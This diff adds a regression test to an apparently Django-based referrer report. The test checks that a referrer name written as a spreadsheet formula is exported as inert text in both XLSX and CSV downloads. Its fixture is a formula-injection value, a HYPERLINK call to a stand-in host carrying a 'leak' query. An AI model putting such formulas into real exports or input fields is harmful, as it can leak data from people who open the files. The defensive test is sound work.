@@ -243,3 +243,20 @@ def test_the_referrer_and_attribution_pages_are_scoped(world, login, role):
     assert (client.account_no in listing) == visible
     ask = browser.get(reverse("admin:acquisition_attributionchange_add"))
     assert ask.status_code == 200
+
+
+def test_a_formula_named_referrer_is_exported_as_text(world, login):
+    """Issue 35 finding 1 (STYLE.md 20): a name the spreadsheet would run comes back as text, in the workbook and in
+    the CSV; before the fix openpyxl wrote it as a live formula."""
+    name = '=HYPERLINK("http://x.example/?leak","y")'
+    a_referrer(world, name=name)
+    browser = login(world["staff"][Role.HEAD_OFFICE])
+    query = f"?month=2026-12&branch={world['branches'][0].pk}"
+    exported = browser.get(reverse("referrer-report") + query + "&format=xlsx")
+    assert exported["Cache-Control"] == "no-store"
+    cells = [cell for sheet in load_workbook(io.BytesIO(exported.content)) for row in sheet.iter_rows()
+             for cell in row if cell.value is not None]
+    assert name in {cell.value for cell in cells}
+    assert {cell.data_type for cell in cells} <= {"s", "n"}  # text or a number, never "f"
+    text = browser.get(reverse("referrer-report") + query + "&format=csv").content.decode("utf-8-sig")
+    assert "'" + name.replace('"', '""') in text and "\n" + name not in text and "," + name not in text
